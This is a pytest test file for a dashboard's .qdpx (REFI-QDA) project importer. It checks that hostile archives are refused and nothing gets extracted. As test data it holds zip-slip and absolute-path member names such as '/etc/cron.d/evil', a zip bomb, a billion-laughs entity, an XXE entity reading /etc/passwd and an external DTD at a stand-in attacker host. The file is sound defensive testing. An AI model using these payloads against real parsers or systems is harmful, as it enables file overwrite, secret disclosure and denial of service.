"""Hostile `.qdpx` files are refused with a clear message, and nothing is written anywhere.

Each archive is built by tests/qdpx_writer.py: zip slip, absolute paths, a zip bomb, a member that
lies about its size, too much data, too many members, XML entity expansion and external entities,
sources that point outside the archive, and files that are not projects at all.
"""

from __future__ import annotations

import os
import zipfile

import pytest
from qdpx_writer import Src, project_xml, understate_size, write_qdpx, write_zip
from test_refiqda import TEXT, USERS, context, own_codes, selections

from dashboard.refiqda.archive import unsafe_name
from dashboard.refiqda.qdpx import Limits, QdpxError, read_qdpx

BOMB_BYTES = 20 * 1024 * 1024


def good_members() -> dict[str, bytes]:
    """The members of a good project: its .qde and one source file."""
    xml, files = project_xml(
        [Src("I000001", TEXT, selections())], USERS, own_codes(), "QualCoder", "codepoints"
    )
    return {"project.qde": xml, **{f"sources/{name}": data for name, data in files.items()}}


def refused(path, match: str, **kwargs) -> list[str]:
    """Read `path`, expect a refusal matching `match`, and return its problems."""
    with pytest.raises(QdpxError, match=match) as err:
        read_qdpx(path, context(), **kwargs)
    return err.value.problems


def test_the_good_project_these_start_from_is_read(tmp_path):
    assert read_qdpx(write_zip(tmp_path / "ok.qdpx", good_members()), context()).excerpts.height == 3


@pytest.mark.parametrize(
    ("member", "why"),
    [
        ("../evil.txt", "climbs out"),
        ("sources/../../evil.txt", "climbs out"),
        ("..\\evil.txt", "climbs out"),
        ("/etc/cron.d/evil", "absolute path"),
        ("\\\\server\\share\\evil", "absolute path"),
        ("C:/Windows/evil.txt", "absolute path"),
    ],
)
def test_zip_slip_and_absolute_member_names_are_refused(tmp_path, member, why):
    path = write_zip(tmp_path / "slip.qdpx", {**good_members(), member: b"owned"})
    assert zipfile.ZipFile(path).namelist()[-1] == member  # the hostile name really is in the zip
    before = set(os.listdir(tmp_path))
    problems = refused(path, why)
    assert any(repr(member) in p for p in problems)
    assert set(os.listdir(tmp_path)) == before  # nothing was extracted


def test_a_zip_bomb_is_refused_before_it_is_read(tmp_path):
    path = write_zip(tmp_path / "bomb.qdpx", {**good_members(), "sources/bomb.txt": bytes(BOMB_BYTES)})
    assert path.stat().st_size < 100_000  # 20 MB of zeros squeezed into a few kB
    refused(path, "expands .* times .*zip bomb")


def test_a_member_that_lies_about_its_size_is_stopped_while_reading(tmp_path):
    members = good_members()
    source = next(name for name in members if name.startswith("sources/"))
    members[source] = members[source] * 2000  # about 700 kB of real text, declared as 100 bytes
    path = understate_size(write_zip(tmp_path / "liar.qdpx", members), source, 100)
    refused(path, "cannot be read|more data than allowed")


def test_oversize_archives_are_refused(tmp_path):
    path = write_zip(tmp_path / "big.qdpx", good_members())
    refused(path, "would expand to", limits=Limits(max_declared_bytes=1_000))
    refused(path, "more data than allowed", limits=Limits(max_read_bytes=2_000))
    refused(path, "members", limits=Limits(max_members=1))


@pytest.mark.parametrize(
    ("doctype", "match"),
    [
        (  # billion laughs
            '<!DOCTYPE Project [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
            '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
            "DTD",
        ),
        ('<!DOCTYPE Project [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "DTD"),  # external entity
        ('<!DOCTYPE Project SYSTEM "http://attacker.invalid/evil.dtd">', "DTD"),  # external DTD
    ],
)
def test_xml_entity_expansion_and_external_entities_are_refused(tmp_path, doctype, match):
    members = good_members()
    xml = members["project.qde"].decode()
    head, rest = xml.split("\n", 1)
    members["project.qde"] = (head + "\n" + doctype + "\n" + rest.replace('name="', 'name="&c;', 1)).encode()
    refused(write_zip(tmp_path / "xml.qdpx", members), match)


def test_sources_that_point_outside_the_archive_are_refused(tmp_path):
    for path_attr, match in (
        ("internal://../../etc/passwd", "climbs out"),
        ("C:\\Users\\coder\\interview.txt", "not inside the project"),
        ("relative://interview.txt", "not inside the project"),
        ("internal://missing.txt", "missing from its sources/ folder"),
    ):
        src = Src("I000001", TEXT, selections(), plain_text_path=path_attr)
        refused(write_qdpx(tmp_path / "p.qdpx", [src], USERS, own_codes()), match)


def test_files_that_are_not_projects_are_refused(tmp_path):
    (tmp_path / "junk.qdpx").write_bytes(b"this is not a zip")
    refused(tmp_path / "junk.qdpx", "not a readable zip")
    refused(write_zip(tmp_path / "empty.qdpx", {"readme.txt": b"hi"}), "no project file")
    two = {"a.qde": good_members()["project.qde"], "b.qde": b"<x/>"}
    refused(write_zip(tmp_path / "two.qdpx", two), "several project files")
    refused(write_zip(tmp_path / "broken.qdpx", {"project.qde": b"<Project"}), "not well-formed")
    other = {"project.qde": b'<?xml version="1.0"?><Project xmlns="urn:example"/>'}
    refused(write_zip(tmp_path / "other.qdpx", other), "not a REFI-QDA project")
    members = good_members()
    name = next(n for n in members if n.startswith("sources/"))
    members[name] = "café é".encode("latin-1")
    refused(write_zip(tmp_path / "latin1.qdpx", members), "not UTF-8")


def test_unsafe_name_rules():
    assert unsafe_name("sources/abc.txt") is None
    assert unsafe_name("sources/a..b.txt") is None  # dots inside a name are fine
    assert unsafe_name("a/../../b") == "climbs out of the archive with '..'"
    assert unsafe_name("/abs") == "has an absolute path"
